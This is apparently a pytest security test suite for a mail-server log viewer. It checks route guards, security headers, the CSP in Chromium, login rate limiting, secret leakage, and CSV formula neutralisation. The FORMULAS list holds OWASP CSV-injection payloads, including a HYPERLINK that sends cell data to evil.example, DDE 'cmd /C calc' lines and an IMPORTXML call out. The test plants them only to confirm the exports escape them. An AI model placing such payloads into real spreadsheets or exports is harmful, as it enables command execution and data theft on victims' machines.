"""Security of the running app: the guard over every route, headers and cookie flags on every
response, a CSP NiceGUI works with (checked in Chromium), slowed-down password guessing on the
login page and the API, no secret in any response or log line, CSV formula cells neutralised."""

from __future__ import annotations

import base64
import csv
import http.server
import io
import os
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import text
from starlette.middleware.sessions import SessionMiddleware

from mlv.api.security import SWAGGER_CDN, SecurityHeaders, install_security_headers, secure_cookie
from mlv.db import make_engine
from mlv.mailcow.emulator import Emulator, start_emulator_thread
from mlv.queries.exports import FORMULA_START
from tests.api.route_table import walk_in_child
from tests.hardening.figures import module_figures
from tests.servers import free_port
from tests.ui.browser import PASSWORD, AppServer, app_server, launch, log_in
from tests.ui.data import DemoServer, start_demo

ROOT = Path(__file__).resolve().parents[2]
AUTH = ("admin", PASSWORD)
HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
}
CSP_MUST = ("object-src 'none'", "base-uri 'self'", "frame-ancestors 'none'", "form-action 'self'",
            "default-src 'self'")
PAGES = ["/", "/messages", "/logs", "/logs?tab=rspamd", "/logs?tab=netfilter", "/queue", "/domains",
         "/mailboxes", "/dmarc", "/status", "/settings"]
# Cells a spreadsheet would run (OWASP "CSV injection" payloads), planted in the logs before export.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
            "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            '=IMPORTXML(CONCAT("http://e.x/",A2),"//a")']
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
                       "AAAABJRU5ErkJggg==")
FIGURES, figures = module_figures("Security")


def check_headers(r: httpx.Response, *, tls: bool = False) -> None:
    where = f"{r.request.method} {r.request.url.path} -> {r.status_code}"
    for name, value in HEADERS.items():
        assert r.headers.get(name) == value, (where, name, r.headers.get(name))
    policy = r.headers.get("content-security-policy", "")
    assert all(part in policy for part in CSP_MUST), (where, policy)
    permissions = r.headers.get("permissions-policy", "")
    assert all(f"{feature}=()" in permissions for feature in ("camera", "microphone", "geolocation")), where
    assert ("strict-transport-security" in r.headers) == tls, where
    for cookie in r.headers.get_list("set-cookie"):
        flags = {part.strip().split("=")[0].lower() for part in cookie.split(";")[1:]}
        assert {"httponly", "samesite"} <= flags and ("secure" in flags) == tls, (where, cookie)
        assert "samesite=lax" in cookie.lower()


# ---------------------------------------------------------------- servers


class _Logo(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(PNG)))
        self.end_headers()
        self.wfile.write(PNG)

    def log_message(self, *args) -> None:  # type: ignore[no-untyped-def]
        pass


@pytest.fixture(scope="module")
def image_hosts() -> Iterator[tuple[str, str]]:
    """Two image servers of other origins: the logo's (allowed by the CSP) and an unknown one."""
    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), _Logo) for _ in range(2)]
    for srv in servers:
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield tuple(f"http://127.0.0.1:{srv.server_address[1]}" for srv in servers)  # type: ignore[misc]
    for srv in servers:
        srv.shutdown()
        srv.server_close()


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DemoServer]:
    server = start_demo(tmp_path_factory.mktemp("security-demo"), hours=0.3)
    engine = make_engine(f"sqlite:///{server.db_path}")
    now = int(time.time())
    with engine.begin() as conn:  # formula payloads where the exports will find them (newest lines)
        for i, payload in enumerate(FORMULAS):
            conn.execute(text(
                "INSERT INTO postfix_log (server_id, time, line_hash, priority, program, message, kind, queue_id, "
                "sender, recipient, status) VALUES (1, :t, :h, 'info', 'postfix/smtp', :p, 'delivery', :q, :p, :p, "
                "'sent')"), {"t": now + 60, "h": 9000 + i, "p": payload, "q": f"F{i}"})
            conn.execute(text(
                "INSERT INTO netfilter_log (server_id, time, line_hash, priority, message, action, ip, username) "
                "VALUES (1, :t, :h, 'warn', :p, 'warning', '192.0.2.50', :p)"), {"t": now + 60, "h": 9000 + i,
                                                                                  "p": payload})
    engine.dispose()
    yield server
    server.handle.stop()


@pytest.fixture(scope="module")
def server(demo: DemoServer, image_hosts: tuple[str, str], tmp_path_factory) -> Iterator[AppServer]:  # type: ignore[no-untyped-def]
    with app_server(tmp_path_factory.mktemp("security") / "data", db=demo.db_path, MAILCOW_URL=demo.url,
                    MAILCOW_API_KEY=demo.api_key, SCHEDULER_ENABLED="false", AUTH_MAX_FAILURES="3",
                    TRUSTED_PROXIES="127.0.0.1",
                    APP_LOGO_URL=f"{image_hosts[0]}/logo.png") as srv:
        yield srv
    assert "Traceback" not in srv.log(), srv.log()[-4000:]


@pytest.fixture(scope="module")
def browser() -> Iterator:  # type: ignore[type-arg]
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path("/usr/bin/chromium").exists():
        pytest.skip("needs Debian's chromium")
    with sync_api.sync_playwright() as p:
        b = launch(p)
        yield b
        b.close()


# ---------------------------------------------------------------- the guard and CSV


def test_the_route_walk_finds_every_route_and_websocket_guarded(tmp_path: Path) -> None:
    """tests/api/guard_walk.py over the real NiceGUI app (as tests/api/test_auth.py runs it)."""
    result = walk_in_child(tmp_path, PASSWORD)
    assert result["failures"] == [] and result["websocket"] == "websocket.close"
    assert result["checked"] > 40 and "/_nicegui_ws/x" in result["paths"]
    FIGURES["1"] = [f"- Route walk (`tests/api/guard_walk.py`, the real NiceGUI app): {result['checked']} "
                    f"(path, method) pairs on {len(result['paths'])} paths; every non-public one answered "
                    "401 (API) or 303 to /login (browser), and the socket.io websocket was closed (1008) "
                    "without credentials. Failures: 0."]


def test_formula_cells_are_neutralised_in_the_served_csv_files(server: AppServer) -> None:
    checked = planted = 0
    for kind in ("postfix", "netfilter"):
        r = httpx.get(f"{server.base}/api/export/{kind}/csv", auth=AUTH, timeout=60)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        check_headers(r)
        for row in list(csv.reader(io.StringIO(r.text)))[1:]:
            for cell in row:
                checked += 1
                assert not cell.startswith(FORMULA_START), (kind, cell)
                if cell[1:] in FORMULAS:
                    assert cell[0] == "'"
                    planted += 1
    assert planted >= 3 * len(FORMULAS)  # postfix: message, sender, recipient; netfilter: message, username
    FIGURES["2"] = [f"- CSV exports over HTTP: {checked} cells of the Postfix and Netfilter files checked, "
                    f"{planted} planted formula cells ({len(FORMULAS)} OWASP payloads starting with "
                    "= + - @ tab CR) came out with a leading apostrophe; cells starting like a formula: 0."]


# ---------------------------------------------------------------- headers and cookies


def test_every_response_carries_the_security_headers(server: AppServer) -> None:
    spec = httpx.get(f"{server.base}/openapi.json", auth=AUTH, timeout=30).json()
    values = {"correlation_key": "x", "domain": "example.org", "queue_id": "ABC", "version": "0.1.0",
              "report_date": "2026-01-01"}
    api_paths = [re.sub(r"\{(\w+)\}", lambda m: values.get(m.group(1), "x"), path)
                 for path, ops in spec["paths"].items() if "get" in ops and not path.endswith("/csv")]
    login_page = httpx.get(f"{server.base}/login", timeout=30)
    assets = sorted(set(re.findall(r'"(/_nicegui/[^"]+\.(?:js|css))"', login_page.text)))[:5]
    assert assets
    responses = [login_page]
    with httpx.Client(base_url=server.base, timeout=60) as anon, \
            httpx.Client(base_url=server.base, timeout=60, auth=AUTH) as user:
        responses += [user.get(p) for p in [*api_paths, *PAGES, "/docs", "/openapi.json", "/no/such/page",
                                            "/api/no-such-route"]]
        responses += [anon.get(p) for p in [*assets, "/api/health", "/api/messages", "/messages", "/favicon.ico"]]
        responses += [anon.get("/messages", headers={"Accept": "text/html"})]  # 303 to /login
        blocked = [httpx.get(f"{server.base}/api/info", auth=("admin", "guess"), timeout=30,
                             headers={"X-Forwarded-For": "203.0.113.99"}) for _ in range(4)]
        responses += blocked
        responses += [anon.post("/login", data={"username": "admin", "password": PASSWORD})]  # session cookie
        tls = [user.get(p, headers={"X-Forwarded-Proto": "https"}) for p in ("/", "/api/info", "/api/health")]
        tls += [anon.post("/login", data={"username": "admin", "password": PASSWORD},
                          headers={"X-Forwarded-Proto": "https"})]
    statuses = sorted({r.status_code for r in responses})
    assert {200, 303, 401, 404, 429} <= set(statuses), statuses
    assert blocked[-1].status_code == 429
    for r in responses:
        check_headers(r)
    for r in tls:
        check_headers(r, tls=True)
        assert r.headers["strict-transport-security"].startswith("max-age=")
    cookies = [c for r in responses + tls for c in r.headers.get_list("set-cookie")]
    assert any("session=" in c for c in tls[-1].headers.get_list("set-cookie"))
    FIGURES["3"] = [
        f"- Security headers: {len(responses) + len(tls)} real responses of `mlv serve` ({len(api_paths)} GET API "
        f"routes, {len(PAGES)} pages, /docs, NiceGUI assets, statuses {', '.join(map(str, statuses))}) all carried "
        "nosniff, X-Frame-Options DENY, CSP (frame-ancestors/object-src 'none', base-uri/form-action 'self'), "
        "Referrer-Policy, Permissions-Policy, COOP; HSTS only on the requests that came over TLS "
        "(X-Forwarded-Proto https from the local proxy).",
        f"- Cookies: {len(cookies)} Set-Cookie headers, all HttpOnly + SameSite=Lax; `Secure` exactly on the "
        f"{sum(len(r.headers.get_list('set-cookie')) for r in tls)} sent over TLS."]


async def test_tls_is_believed_only_from_trusted_proxies_and_errors_get_headers() -> None:
    app = FastAPI()

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("unhandled")

    @app.get("/hello")
    def hello() -> dict:
        return {"ok": True}

    app.add_middleware(SessionMiddleware, secret_key="k")
    install_security_headers(app, trusted_proxies=["10.0.0.0/8"])

    async def get(path: str, peer: str, **headers: str) -> httpx.Response:
        transport = httpx.ASGITransport(app=app, client=(peer, 5000), raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://mlv") as client:
            return await client.get(path, headers=headers)

    error = await get("/boom", "192.0.2.1")
    assert error.status_code == 500
    check_headers(error)  # built by Starlette's outermost error middleware: still inside this layer
    assert "strict-transport-security" in (await get("/hello", "10.1.2.3", **{"X-Forwarded-Proto": "https"})).headers
    spoofed = await get("/hello", "192.0.2.1", **{"X-Forwarded-Proto": "https"})
    check_headers(spoofed, tls=False)  # an untrusted peer cannot claim TLS
    direct = httpx.ASGITransport(app=app, client=("192.0.2.1", 5000))
    async with httpx.AsyncClient(transport=direct, base_url="https://mlv") as client:
        check_headers(await client.get("/hello"), tls=True)  # TLS terminated by the server itself
    with pytest.raises(RuntimeError):
        install_security_headers(app)  # after the first request: too late
    assert secure_cookie(b"a=1; SameSite=Strict", tls=True) == b"a=1; SameSite=Strict; HttpOnly; Secure"
    assert isinstance(app.middleware_stack, SecurityHeaders)


# ---------------------------------------------------------------- the browser


def test_pages_render_under_the_csp_in_chromium(browser, server: AppServer, image_hosts) -> None:  # type: ignore[no-untyped-def]
    context = browser.new_context(viewport={"width": 1300, "height": 850})
    context.add_init_script("window.__csp = []; document.addEventListener('securitypolicyviolation', "
                            "e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));")
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(f"{server.base}/login")
    page.get_by_label("Username").wait_for()
    assert page.evaluate("window.__csp") == []
    log_in(page, server.base)
    page.wait_for_url(f"{server.base}/")
    rendered = 1
    for path in PAGES:
        page.goto(f"{server.base}{path}")
        page.wait_for_load_state("networkidle")
        page.locator(".q-drawer").first.wait_for()  # the frame was built by Vue: templates compiled, socket up
        assert page.evaluate("window.__csp") == [], (path, page.evaluate("window.__csp"))
        logo = page.locator(f'img[src="{image_hosts[0]}/logo.png"]').first
        logo.wait_for()
        page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=logo.element_handle())
        rendered += 1
    assert not [e for e in errors if "Content Security Policy" in e or "Refused to" in e], errors
    # the policy is enforced, not just sent: an image from an origin it does not name is refused
    page.evaluate(f"document.body.appendChild(Object.assign(document.createElement('img'), "
                  f"{{src: '{image_hosts[1]}/pixel.png'}}))")
    page.wait_for_function("window.__csp.length > 0")
    assert page.evaluate("window.__csp") == [f"img-src {image_hosts[1]}/pixel.png"]
    context.close()
    docs = httpx.get(f"{server.base}/docs", auth=AUTH, timeout=30)
    policy = docs.headers["content-security-policy"]
    for url in re.findall(r'(?:src|href)="(https://[^"]+)"', docs.text) + re.findall(r"url: '(https://[^']+)'",
                                                                                       docs.text):
        origin = "/".join(url.split("/")[:3])
        assert origin in policy, (url, policy)  # Swagger UI's CDN files are allowed on /docs only
    assert SWAGGER_CDN not in httpx.get(f"{server.base}/login", timeout=30).headers["content-security-policy"]
    FIGURES["4"] = [f"- CSP in Chromium: the login page and {rendered - 1} pages opened after logging in, each "
                    "built by Vue over the websocket with the external APP_LOGO_URL image loaded; CSP "
                    "violations: 0; an image from an origin the policy does not name was refused (1 violation, "
                    "as it must)."]


def test_password_guessing_is_slowed_on_the_login_page_and_the_api(browser, server: AppServer) -> None:  # type: ignore[no-untyped-def]
    sync_api = pytest.importorskip("playwright.sync_api")
    attacker = "198.51.100.66"  # the local reverse proxy (127.0.0.1) passes the client's address on
    context = browser.new_context(extra_http_headers={"X-Forwarded-For": attacker})
    page = context.new_page()
    log_in(page, server.base, next_path="/messages", password="guess-1")
    message = page.locator(".text-negative")
    sync_api.expect(message).to_have_text("Wrong username or password.")
    for attempt in ("guess-2", "guess-3"):
        page.get_by_label("Password").fill(attempt)
        page.get_by_role("button", name="Log in").click()
        sync_api.expect(page.get_by_label("Password")).to_have_value("")  # the page answered this attempt
        sync_api.expect(message).to_have_text("Wrong username or password.")
    page.get_by_label("Password").fill(PASSWORD)  # even the right password waits now
    page.get_by_role("button", name="Log in").click()
    sync_api.expect(message).to_have_text(re.compile(r"Too many failed attempts; try again in \d+ seconds\."))
    assert page.url.startswith(f"{server.base}/login")
    shown = message.text_content()
    # the same counter guards the API and the plain form: the right credentials wait too
    api = httpx.get(f"{server.base}/api/info", auth=AUTH, headers={"X-Forwarded-For": attacker}, timeout=30)
    assert api.status_code == 429 and 1 <= int(api.headers["retry-after"]) <= 6
    assert "try again" in api.json()["detail"]
    form = httpx.post(f"{server.base}/login", data={"username": "admin", "password": PASSWORD},
                      headers={"X-Forwarded-For": attacker}, timeout=30)
    assert form.status_code == 429 and "Too many failed attempts" in form.text
    # and only that client: everyone else still gets in
    other = httpx.get(f"{server.base}/api/info", auth=AUTH, headers={"X-Forwarded-For": "198.51.100.67"}, timeout=30)
    assert other.status_code == 200
    context.close()
    FIGURES["5"] = [f"- Password guessing (AUTH_MAX_FAILURES=3): after 3 wrong passwords on the login page the "
                    f"page said \"{shown}\" even for the right password; the same client then got 429 "
                    f"(Retry-After {api.headers['retry-after']} s) from /api with the right Basic credentials and "
                    "from the plain POST /login; another client got 200."]


# ---------------------------------------------------------------- secrets


SECRETS = {
    "AUTH_PASSWORD": "Auth-Secret-4f1b9c",
    "MAILCOW_API_KEY": "Mailcow-Key-7d2e8a",
    "SMTP_PASSWORD": "Smtp-Secret-3a6c0e",
    "DMARC_IMAP_PASSWORD": "Imap-Secret-9b4d2f",
    "MAXMIND_LICENSE_KEY": "Maxmind-Secret-1c5e7a",
    "POSTGRES_PASSWORD": "Pg-Secret-8e3f6b",
}


def _forms(secret: str) -> list[str]:
    return [secret, quote(secret, safe=""), base64.b64encode(secret.encode()).decode(),
            base64.b64encode(f"admin:{secret}".encode()).decode(),
            base64.urlsafe_b64encode(secret.encode()).decode().rstrip("=")]


@pytest.fixture
def postgres_parts(request: pytest.FixtureRequest) -> dict[str, str]:
    """POSTGRES_* settings for the test PostgreSQL server (trust auth: any password is accepted)."""
    try:
        pg = request.getfixturevalue("pg_server")
    except pytest.skip.Exception:
        return {}
    name = f"mlv_secrets_{os.getpid()}"
    pg.create_database(name)
    return {"POSTGRES_HOST": "127.0.0.1", "POSTGRES_PORT": str(pg.port), "POSTGRES_USER": "postgres",
            "POSTGRES_DB": name}


def test_no_secret_in_any_response_or_log_line(tmp_path: Path, postgres_parts: dict[str, str]) -> None:
    emulator = Emulator(seed=3, rate=5, backfill_seconds=600)  # accepts its own key only
    handle = start_emulator_thread(emulator)
    settings = {**SECRETS, "MAILCOW_URL": handle.url, "LOG_LEVEL": "DEBUG", "FETCH_INTERVAL": "5",
                "SMTP_ENABLED": "true", "SMTP_HOST": "127.0.0.1", "SMTP_PORT": str(free_port()), "SMTP_USER": "mlv",
                "ADMIN_EMAIL": "postmaster@example.org", "DMARC_IMAP_ENABLED": "true", "DMARC_IMAP_HOST": "127.0.0.1",
                "DMARC_IMAP_PORT": str(free_port()), "DMARC_IMAP_USER": "dmarc", **postgres_parts}
    auth = ("admin", SECRETS["AUTH_PASSWORD"])
    responses: list[httpx.Response] = []
    try:
        with app_server(tmp_path / "data", **settings) as srv, \
                httpx.Client(base_url=srv.base, timeout=60, auth=auth) as client:
            spec = client.get("/openapi.json").json()
            paths = [re.sub(r"\{[^}]+\}", "x", p) for p, ops in spec["paths"].items() if "get" in ops]
            responses += [client.get(p) for p in [*paths, *PAGES, "/login", "/docs", "/openapi.json"]]
            responses += [client.post(p) for p in ("/api/settings/test/smtp", "/api/settings/test/imap",
                                                    "/api/dmarc/imap/sync")]
            responses += [client.get("/api/info", auth=("admin", "wrong")), client.get("/api/info", auth=None)]
            connection = client.get("/api/status/mailcow-connection")  # a live call mailcow refuses
            assert connection.json()["connected"] is False and "refused" in connection.json()["error"]
            deadline = time.monotonic() + 60
            while client.get("/api/settings/info").json()["background_jobs"]["fetch_logs"]["status"] != "failed":
                assert time.monotonic() < deadline, "the fetch job never ran against the refusing mailcow"
                time.sleep(0.5)
            responses.append(client.get("/api/settings/info"))
            responses.append(connection)
            session_secret = (srv.data_dir / "session-secret").read_text().strip()
        log = srv.log()
    finally:
        handle.stop()
    assert "DEBUG" in log and "job fetch_logs failed" in log and " 401 " in log
    assert all(r.status_code != 500 for r in responses), [r.url.path for r in responses if r.status_code == 500]
    secrets = {**SECRETS, "session secret": session_secret}
    leaks = []
    for name, secret in secrets.items():
        for form in _forms(secret):
            for r in responses:
                headers = "\n".join(f"{k}: {v}" for k, v in r.headers.multi_items())
                if form in r.text or form in headers:
                    leaks.append((name, r.request.method, r.url.path))
            if form in log:
                leaks.append((name, "log", next(line for line in log.splitlines() if form in line)))
    assert leaks == []
    lines = len(log.splitlines())
    FIGURES["6"] = [f"- Secrets: `mlv serve` at LOG_LEVEL=DEBUG with {len(SECRETS)} secret settings "
                    f"({', '.join(SECRETS)}{'; PostgreSQL through POSTGRES_*' if postgres_parts else ''}), a mailcow "
                    f"that refuses the key, unreachable SMTP and IMAP: {len(responses)} responses "
                    f"({len(paths)} GET routes, {len(PAGES)} pages, the SMTP/IMAP tests) and {lines} log lines "
                    f"searched for {len(secrets)} secrets (with the session secret) in plain, URL-encoded and "
                    "base64 forms: 0 found."]
